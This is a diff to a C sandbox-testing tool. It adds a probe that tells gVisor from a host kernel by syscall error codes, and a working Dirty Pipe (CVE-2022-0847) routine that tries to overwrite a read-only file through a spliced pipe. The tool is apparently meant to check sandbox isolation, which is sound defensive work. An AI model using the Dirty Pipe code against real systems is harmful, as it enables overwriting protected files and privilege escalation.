@@ -556,12 +556,12 @@ a_id(void)
 
 /* Signal every pid from 2 to max with signal 0; count the ones we may. */
 static void
-a_signal_scan(void)
+a_signal_scan(const char *upto)
 {
-	pid_t	 p;
+	pid_t	 p, end = *upto != '\0' ? (pid_t)atoi(upto) : 1 << 22;
 	int	 n = 0;
 
-	for (p = 2; p < 1 << 22; p++)
+	for (p = 2; p < end; p++)
 		if (kill(p, 0) == 0)
 			n++;
 	printf("RESULT VISIBLE %d\n", n);
@@ -705,6 +705,85 @@ a_fill(const char *path)
 	outcome(-1);
 }
 
+/*
+ * Calls the profile allows and Linux 6.1 implements, with arguments no
+ * kernel accepts: which kernel answers.  The host's answers each with
+ * its own code (EINVAL, EBADF, EFAULT); gVisor's, ENOSYS for those it
+ * does not implement, so that no host code ever runs for them.
+ */
+static void
+a_kernel_calls(void)
+{
+	static const struct {
+		const char	*name;
+		long		 nr;
+	} calls[] = {
+		{ "openat2", SYS_openat2 },
+		{ "pidfd_open", SYS_pidfd_open },
+		{ "futex_waitv", SYS_futex_waitv },
+		{ "epoll_pwait2", SYS_epoll_pwait2 },
+		{ "remap_file_pages", SYS_remap_file_pages },
+		{ "pkey_alloc", SYS_pkey_alloc },
+	};
+	size_t	 i, j;
+	long	 r;
+	char	 line[512], *p = line;
+
+	p += snprintf(line, sizeof(line), "RESULT");
+	for (i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
+		/* -1 as a descriptor, a pid, a flag set: never valid. */
+		errno = 0;
+		r = syscall(calls[i].nr, -1L, 0L, 0L, 0L, 0L, 0L);
+		for (j = 0; j < sizeof(errnames) / sizeof(errnames[0]); j++)
+			if (errnames[j].e == errno)
+				break;
+		p += snprintf(p, sizeof(line) - (size_t)(p - line), " %s=%s",
+		    calls[i].name, r != -1 ? "SUCCEEDED" :
+		    j < sizeof(errnames) / sizeof(errnames[0]) ?
+		    errnames[j].name : "other");
+	}
+	printf("%s\n", line);
+}
+
+/*
+ * Dirty Pipe (CVE-2022-0847): a pipe buffer left mergeable, then one
+ * spliced from a file opened read-only, then a write into the pipe.  A
+ * vulnerable kernel writes through to the file's page cache.  HELD if the
+ * file is unchanged; path is a file of the sandbox's own, mode 0444.
+ */
+static void
+a_dirtypipe(const char *path)
+{
+	char	 before[8], after[8], junk[4096];
+	int	 fd, p[2], size, i;
+	loff_t	 off = 0;
+
+	if ((fd = open(path, O_RDONLY)) == -1 || pipe(p) == -1 ||
+	    pread(fd, before, sizeof(before), 0) != sizeof(before)) {
+		outcome(-1);
+		return;
+	}
+	memset(junk, 'j', sizeof(junk));
+	size = fcntl(p[1], F_GETPIPE_SZ);
+	for (i = 0; i < size; i += (int)sizeof(junk))
+		if (write(p[1], junk, sizeof(junk)) == -1)
+			break;
+	for (i = 0; i < size; i += (int)sizeof(junk))
+		if (read(p[0], junk, sizeof(junk)) == -1)
+			break;
+	if (splice(fd, &off, p[1], NULL, 1, 0) != 1) {
+		outcome(-1);
+		return;
+	}
+	(void)write(p[1], "PWNED", 5);
+	if (pread(fd, after, sizeof(after), 0) != sizeof(after)) {
+		outcome(-1);
+		return;
+	}
+	result(memcmp(before, after, sizeof(before)) == 0 ? "HELD" :
+	    "SUCCEEDED");
+}
+
 static void
 usage(void)
 {
@@ -813,8 +892,12 @@ main(int argc, char *argv[])
 		a_chmod_suid(x);
 	else if (strcmp(a, "id") == 0)
 		a_id();
+	else if (strcmp(a, "kernel_calls") == 0)
+		a_kernel_calls();
+	else if (strcmp(a, "dirtypipe") == 0)
+		a_dirtypipe(x);
 	else if (strcmp(a, "signal_scan") == 0)
-		a_signal_scan();
+		a_signal_scan(x);
 	else if (strcmp(a, "kill_all") == 0)
 		a_kill_all();
 	else if (strcmp(a, "kill_init") == 0)
